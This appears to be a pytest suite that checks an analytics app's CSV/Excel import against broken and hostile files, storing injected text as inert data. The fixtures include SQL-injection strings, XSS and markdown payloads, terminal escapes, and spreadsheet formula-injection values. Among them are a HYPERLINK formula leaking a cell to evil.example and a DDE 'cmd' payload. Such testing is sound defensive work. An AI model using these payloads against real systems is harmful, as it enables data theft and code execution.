"""The corpus of broken and hostile files (tests/corpus/README.md): each file's outcome through the CLI, the
importer and the Import page; a rejected file leaves every table exactly as it was; hostile text is data.

A rejected file: exit 2, one ``error:`` line naming the file (at most 400 characters, file content only as short
escaped excerpts), no traceback, the same line on the Import page, and every table unchanged. An imported file:
exit 0, exactly the expected imported and rejected rows, and the rows already there untouched.
"""
from __future__ import annotations

import io
import os
import re
import shutil
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path

import duckdb
import pytest

from analytics import cli, ingest, store
from analytics.ingest import readers
from analytics.people import responses
from analytics.reports import exports
from analytics.sales import deals
from tests.corpus import make_corpus

ROOT = Path(__file__).resolve().parent.parent
README = ROOT / "tests" / "corpus" / "README.md"


@dataclass(frozen=True)
class Expect:
    """What a corpus file must give: rejected with a message, or imported with exact row counts."""
    message: str                 # rejected: part of the error line; imported: part of a reason, warning or note
    kind: str | None = None      # None = the whole file is rejected
    imported: int = 0
    rejected: int = 0


CASES = {
    "empty.csv": Expect("the file is empty (0 bytes)"),
    "header_only.csv": Expect("column headings but no data rows"),
    "blank_lines.csv": Expect("only blank lines"),
    "binary_garbage.csv": Expect("not a spreadsheet (binary content)"),
    "binary_high_bytes.csv": Expect("not a spreadsheet (binary content)"),
    "text_named.xlsx": Expect("named .xlsx but contains plain text"),
    "truncated.xlsx": Expect("the workbook is incomplete or damaged"),
    "encrypted.xlsx": Expect("the workbook is password-protected"),
    "zip_archive.xlsx": Expect("this is a ZIP archive, not a spreadsheet"),
    "html_error_page.csv": Expect("this is a web page (HTML)"),
    "json_export.csv": Expect("this is a JSON file"),
    "one_column.csv": Expect("no column looks like a deal stage"),
    "inconsistent_columns.csv": Expect("more cells than the header", "deals", 3, 2),
    "two_hundred_columns.csv": Expect("Read as CSV", "deals", 50, 0),
    "duplicate_columns.csv": Expect("Renamed repeated column heading(s)", "deals", 2, 0),
    "duplicate_deal_ids.csv": Expect("the last row of each deal was kept", "deals", 2, 1),
    "mixed_dates.csv": Expect("created date 'next Tuesday' is not a date", "deals", 6, 3),
    "far_dates.csv": Expect("created date '1899-12-31' is before 1900 or after 2100", "deals", 2, 4),
    "text_amounts.csv": Expect("amount 'TBD' is not a number", "deals", 3, 5),
    "bad_probabilities.csv": Expect("probability '150' is not between 0 and 100 %", "deals", 2, 4),
    "enps_bad_answers.csv": Expect("eNPS answer 'dix' is not a whole number 0–10", "survey", 4, 5),
    "formulas.csv": Expect("Read as CSV", "deals", 2, 0),
    "formulas.xlsx": Expect("Read sheet", "deals", 2, 0),
    "hostile_values.csv": Expect("Read as CSV", "deals", 3, 0),
    "hostile_survey.csv": Expect("Identifier columns dropped", "survey", 5, 0),
    "long_strings.csv": Expect("amount '22222222222222222222222222222222222222", "deals", 1, 2),
}
REJECTED = sorted(name for name, e in CASES.items() if e.kind is None)
IMPORTED = sorted(name for name, e in CASES.items() if e.kind is not None)
BASE_DEALS = (b"Record ID,Deal Name,Deal Stage,Amount,Create Date,Close Date\n"
              b"B1,Base one,appointmentscheduled,1000,2026-09-01,2026-12-15\n"
              b"B2,Base two,closedwon,4000,2026-08-01,2026-11-02\n")
BASE_SURVEY = ("Submitted,Department,How likely are you to recommend this company as a place to work?\n"
               + "".join(f"2026-10-0{1 + i % 5},Ops,{i % 11}\n" for i in range(12))).encode()


@pytest.fixture(scope="module")
def corpus(tmp_path_factory) -> dict[str, Path]:
    return make_corpus.corpus_files(tmp_path_factory.mktemp("corpus"))


@pytest.fixture(scope="module")
def base_db(tmp_path_factory) -> Path:
    """A database that already holds a deals snapshot, a survey and a setting (copied for each test)."""
    path = tmp_path_factory.mktemp("base") / "base.duckdb"
    ingest.import_file(BASE_DEALS, "base_deals_2026-11-01.csv", db=path)
    ingest.import_file(BASE_SURVEY, "base_survey.csv", db=path)
    with store.transaction(path) as con:
        store.set_setting(con, "stale_days", 45)
    return path


@pytest.fixture
def copy_db(base_db, tmp_path) -> Path:
    target = tmp_path / "pulse.duckdb"
    shutil.copy(base_db, target)
    return target


def dump(db: Path) -> dict[str, list[str]]:
    """Every table's full content (and the sequence's next value), to compare a database before and after."""
    con = duckdb.connect(str(db), read_only=True)
    try:
        tables = [r[0] for r in con.execute("SELECT table_name FROM information_schema.tables ORDER BY 1").fetchall()]
        content = {t: sorted(map(repr, con.execute(f'SELECT * FROM "{t}"').fetchall())) for t in tables}
        content["(sequence import_ids)"] = [repr(con.execute(
            "SELECT last_value FROM duckdb_sequences() WHERE sequence_name = 'import_ids'").fetchall())]
        return content
    finally:
        con.close()


def run_cli(capsys, *args: str) -> tuple[int, str, str]:
    code = cli.main(list(args))
    out = capsys.readouterr()
    return code, out.out, out.err


def assert_one_error_line(err: str, name: str, fragment: str) -> str:
    lines = [line for line in err.splitlines() if line.strip()]
    assert len(lines) == 1, err
    line = lines[0]
    assert line.startswith(f"error: {name}: "), line
    assert fragment in line and len(line) <= 420 and "Traceback" not in line
    return line


# --- the CLI and the database ------------------------------------------------------------------

@pytest.mark.parametrize("name", REJECTED)
def test_rejected_file_exits_2_and_changes_nothing(name, corpus, copy_db, capsys):
    before = dump(copy_db)
    code, out, err = run_cli(capsys, "import", str(corpus[name]), "--db", str(copy_db))
    assert code == 2 and out == ""
    assert_one_error_line(err, name, CASES[name].message)
    assert dump(copy_db) == before


@pytest.mark.parametrize("name", IMPORTED)
def test_imported_file_counts_and_keeps_the_old_rows(name, corpus, copy_db, capsys):
    expect = CASES[name]
    before = dump(copy_db)
    code, out, err = run_cli(capsys, "import", str(corpus[name]), "--db", str(copy_db))
    assert code == 0 and err == "", err
    assert f"imported {expect.imported} " in out and f", {expect.rejected} rejected." in out
    assert "Traceback" not in out
    after = dump(copy_db)
    for table in store.DATA_TABLES + ("imports", "settings"):
        assert set(before[table]) <= set(after[table]), table   # nothing already there changed or vanished
    with store.connect(copy_db) as con:
        kind, imported, rejected = con.execute(
            "SELECT kind, rows_imported, rows_rejected FROM imports ORDER BY import_id DESC LIMIT 1").fetchone()
    assert (kind, imported, rejected) == (expect.kind, expect.imported, expect.rejected)


@pytest.mark.parametrize("name", IMPORTED)
def test_imported_file_reasons_and_counts_add_up(name, corpus):
    expect = CASES[name]
    prepared = ingest.prepare(corpus[name].read_bytes(), name)
    assert (prepared.kind, prepared.rows_imported, prepared.rows_rejected) == (
        expect.kind, expect.imported, expect.rejected)
    assert prepared.rows_imported + prepared.rows_rejected == len(prepared.raw.frame)
    texts = [*prepared.rejected["reason"], *prepared.warnings, *prepared.details["notes"]]
    assert any(expect.message in text for text in texts), texts
    for text in texts:
        assert len(text) <= ingest.MESSAGE_LIMIT + 1 and "\n" not in text


def test_every_rejected_file_in_one_cli_process(corpus, copy_db):
    """The real command line, as cron runs it: one error line per rejected file, no traceback, exit 2."""
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    command = [sys.executable, "-m", "analytics", "import", *(str(corpus[n]) for n in REJECTED), "--db", str(copy_db)]
    before = dump(copy_db)
    result = subprocess.run(command, capture_output=True, text=True, cwd=ROOT, env=env, timeout=300)
    assert result.returncode == 2
    assert "Traceback" not in result.stderr + result.stdout
    errors = result.stderr.splitlines()
    assert [line.split(":")[1].strip() for line in errors] == REJECTED
    assert dump(copy_db) == before


def test_forced_wrong_kind_names_the_file(corpus, copy_db, capsys):
    code, _, err = run_cli(capsys, "import", str(corpus["hostile_values.csv"]), "--kind", "one_on_ones",
                           "--db", str(copy_db))
    assert code == 2
    assert_one_error_line(err, "hostile_values.csv", "a 1:1 log needs manager, employee and date columns")


def test_the_readme_table_lists_every_corpus_file(corpus):
    rows = [line.split("|")[1].strip().strip("`") for line in README.read_text().splitlines()
            if line.startswith("| `")]
    assert sorted(rows) == sorted(CASES)
    assert sorted(corpus) == sorted(CASES)


# --- hostile text is data ----------------------------------------------------------------------

HOSTILE_ATTRIBUTE = 'Segment"; DROP TABLE imports; --'


def test_sql_in_values_and_headers_is_stored_verbatim(corpus, copy_db):
    ingest.import_file(corpus["hostile_values.csv"], "hostile_values.csv", db=copy_db)
    with store.connect(copy_db) as con:
        names = dict(con.execute("SELECT deal_id, name FROM deal_snapshots").fetchall())
        attributes = con.execute("SELECT DISTINCT attribute FROM deal_attributes ORDER BY 1").fetchall()
        owner = con.execute("SELECT owner FROM deal_snapshots WHERE deal_id = '1''); DROP TABLE deals;--'").fetchone()
        tables = {r[0] for r in con.execute("SELECT table_name FROM information_schema.tables").fetchall()}
    assert names["1'); DROP TABLE deals;--"] == "Robert'); DROP TABLE deal_snapshots;--"
    assert names["2"] == '<script>alert("xss")</script>'
    assert names["3"] == 'semi;colon, comma "quoted"'
    assert owner == ('O\'Brien; "the boss"',)
    assert (HOSTILE_ATTRIBUTE,) in attributes and ("<script>alert('header')</script> Region",) in attributes
    assert {"imports", "deal_snapshots", "deal_attributes"} <= tables


def test_a_hostile_attribute_name_and_value_filter_as_bound_parameters(corpus, copy_db):
    ingest.import_file(corpus["hostile_values.csv"], "hostile_values.csv", db=copy_db)
    with store.connect(copy_db) as con:
        choices = deals.filter_choices(con)
        assert "'); DELETE FROM imports;--" in choices[HOSTILE_ATTRIBUTE]
        chosen = deals.DealFilter(attributes=((HOSTILE_ATTRIBUTE, ("'); DELETE FROM imports;--",)),),
                                  owners=('O\'Brien; "the boss"',))
        where, params = chosen.where("d")
        assert "DROP" not in where and "DELETE" not in where and HOSTILE_ATTRIBUTE in params
        found = con.execute(f"SELECT d.deal_id FROM deal_snapshots d WHERE {where}", params).fetchall()
        assert found == [("1'); DROP TABLE deals;--",)]
        assert con.execute("SELECT count(*) FROM imports").fetchone()[0] == 3


def test_hostile_survey_group_and_question_are_plain_data(corpus, copy_db):
    ingest.import_file(corpus["hostile_survey.csv"], "hostile_survey.csv", db=copy_db)
    with store.connect(copy_db) as con:
        dimension = con.execute("SELECT DISTINCT dimension FROM survey_groups WHERE value = '<b>Sales</b>'"
                                ).fetchone()[0]
        where, params = responses.filter_sql({dimension: ["<b>Sales</b>", "x'); DROP TABLE survey_groups;--"]})
        assert "DROP" not in where and "Sales" not in where
        count = con.execute(f"SELECT count(*) FROM survey_responses r WHERE {where}", params).fetchone()[0]
        questions = [r[0] for r in con.execute("SELECT question FROM survey_questions").fetchall()]
        columns = [r[0] for r in con.execute("SELECT column_name FROM information_schema.columns").fetchall()]
    assert count == 5
    assert "I trust my manager'); DROP TABLE survey_answers;--" in questions
    assert not any("DROP" in c or "@" in c for c in columns)  # the e-mail column was dropped, never stored


@pytest.mark.parametrize("name", ["formulas.csv", "formulas.xlsx"])
def test_formula_cells_are_stored_as_text_and_neutralised_on_export(name, corpus, copy_db):
    ingest.import_file(corpus[name], name, db=copy_db)
    with store.connect(copy_db) as con:
        stored = con.execute("SELECT deal_id, name, owner, amount FROM deal_snapshots WHERE deal_id IN ('1', '2') "
                             "ORDER BY deal_id").df()
    assert stored["name"][0] == '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'   # never evaluated
    assert stored["name"][1] == "+cmd|' /C calc'!A0" and stored["owner"][0] == "@SUM(A1:A9)"
    if name == "formulas.xlsx":
        assert stored["amount"].isna()[1]    # a real formula cell without a cached value is not computed
    csv_text = exports.to_csv_bytes(stored).decode("utf-8-sig")
    assert "'=HYPERLINK(" in csv_text and "'+cmd|" in csv_text and "'@SUM(A1:A9)" in csv_text
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(exports.to_excel_bytes({"Deals": stored})))["Deals"]
    cells = [c.value for row in sheet.iter_rows(min_row=2) for c in row]
    assert "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")" in cells and "'-2+3" in cells
    assert not [c for c in cells if isinstance(c, str) and c.startswith(("=", "+", "-", "@"))]


def test_messages_quote_file_content_only_as_short_escaped_excerpts():
    secret = "S3cr3t-" + "x" * 200
    hostile = (f"Record ID,Deal Stage,Amount,Date entered \x1b[31m{secret}\n1,closedwon,{secret}\x07,{secret}\n"
               "2,closedwon,10,2026-10-01\n")
    prepared = ingest.prepare(hostile.encode(), "evil\x1b[2J\nname.csv")
    for reason in prepared.rejected["reason"]:
        assert secret not in reason and "\x1b" not in reason and "\x07" not in reason
        assert len(reason) <= 120, reason
    with pytest.raises(ingest.ImportRejected) as caught:
        ingest.prepare(b"\x1b[2J" + secret.encode() + b".xlsx junk", "evil\x1b[2J\nname.xlsx")
    message = str(caught.value)
    assert "\n" not in message and "\x1b" not in message and secret not in message
    assert message.startswith("evil\\x1b[2J name.xlsx: ") or message.startswith("evil\\x1b[2J\\nname.xlsx: ")


def test_plain_escapes_markdown_and_html():
    from ui import fmt

    shown = fmt.plain("**x** <script>a</script> [l](javascript:x) ![i](http://t) :red[y] $m$ a@b.c")
    for raw in ("**", "<script>", "](", "![", ":red[", "$m$"):
        assert raw not in shown
    assert unescape(shown) == "**x** <script>a</script> [l](javascript:x) ![i](http://t) :red[y] $m$ a@b.c"


# --- the Import page ---------------------------------------------------------------------------

def unescape(text: str) -> str:
    """Markdown text as the reader sees it (backslash escapes removed)."""
    return re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", text)


MARKUP = ("<script", "<img", "<b>", "](javascript", "](http", ":red[", "**bold**", "$y$")


def assert_shown_as_text(texts: list[str]) -> None:
    """Wherever file text with markup is shown, each of its markup characters is escaped."""
    from ui import fmt

    for text in texts:
        for needle in MARKUP:
            if needle in unescape(text):
                assert fmt.plain(needle) in text, (needle, text)


def page_texts(at) -> list[str]:
    parts = [*at.markdown, *at.caption, *at.error, *at.warning, *at.info, *at.success]
    return [str(p.value) for p in parts] + [str(b.label) for b in at.button]


@pytest.fixture
def page_db(copy_db, monkeypatch) -> Path:
    """The app's database for an AppTest: the base data (so no sample data is loaded)."""
    monkeypatch.setenv("PULSE_DB", str(copy_db))
    return copy_db


def import_page():
    from streamlit.testing.v1 import AppTest

    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=180).run()
    at.switch_page("views/data/import_data.py").run()
    assert not at.exception, at.exception
    return at


def test_import_page_gives_every_corpus_outcome(page_db, corpus):
    """One browser session (AppTest) uploads each corpus file: the same message as the CLI, or the import."""
    at = import_page()
    for name, expect in CASES.items():
        before = dump(page_db) if expect.kind is None else None
        at.file_uploader(key="import_files").set_value((name, corpus[name].read_bytes(), "text/csv")).run()
        assert not at.exception, (name, at.exception)
        if expect.kind is None:
            with pytest.raises(ingest.ImportRejected) as caught:
                ingest.prepare(corpus[name].read_bytes(), name)
            assert [unescape(e.value) for e in at.error] == [str(caught.value)], name
            assert dump(page_db) == before, name
            continue
        assert not at.error, (name, [e.value for e in at.error])
        metrics = {m.label: m.value for m in at.metric}
        assert (metrics["Rows to import"], metrics["Rejected rows"]) == (f"{expect.imported:,}", f"{expect.rejected:,}")
        next(b for b in at.button if b.key and b.key.startswith("import_go_")).click().run()
        assert not at.exception, (name, at.exception)
        assert any(f"imported {expect.imported} rows, {expect.rejected} rejected" in unescape(s.value)
                   for s in at.success), name
        assert_shown_as_text(page_texts(at))


def test_import_page_shows_a_hostile_file_name_as_text(page_db, corpus):
    at = import_page()
    hostile = "<img src=x onerror=alert(1)> **bold** [x](javascript:alert(1)) :red[deals].csv"
    for data in (corpus["hostile_values.csv"].read_bytes(), b"<html><body>expired</body></html>"):
        at.file_uploader(key="import_files").set_value((hostile, data, "text/csv")).run()
        assert not at.exception, at.exception
        texts = page_texts(at)
        assert any(hostile in unescape(text) for text in texts)
        assert_shown_as_text(texts)


def test_readers_error_names_are_escaped():
    assert readers.file_label("a/b/evil\x1b[2J.csv") == "evil\\x1b[2J.csv"


def test_file_contents_are_never_logged_or_echoed(tmp_path, caplog, capsys):
    """Neither the logs (any logger, any level) nor the CLI output carry the file's content."""
    import logging

    secret = "CONFIDENTIAL-" + "q" * 60
    export = tmp_path / "deals_2026-11-20.csv"
    export.write_text("Record ID,Deal Name,Deal Stage,Amount,Deal owner\n"
                      f"1,{secret},closedwon,1000,{secret}\n2,Other,closedwon,{secret},Bob\n"
                      f"3,Third,closedwon,{secret[:30]}1,Bob\n")
    db = tmp_path / "p.duckdb"
    with caplog.at_level(logging.DEBUG):
        assert cli.main(["import", str(export), "--db", str(db)]) == 0
        ingest.prepare(export.read_bytes(), export.name)
        bad = tmp_path / "bad.csv"
        bad.write_bytes(b"\x00" + secret.encode() * 100)
        assert cli.main(["import", str(bad), "--db", str(db)]) == 2
    out = capsys.readouterr()
    logged = "\n".join(r.getMessage() for r in caplog.records)
    for text in (logged, out.out, out.err):
        assert secret not in text and secret[:41] not in text
    with store.connect(db) as con:
        details = con.execute("SELECT details FROM imports").fetchone()[0]
    assert secret not in details  # the import's stored notes and warnings quote short excerpts only
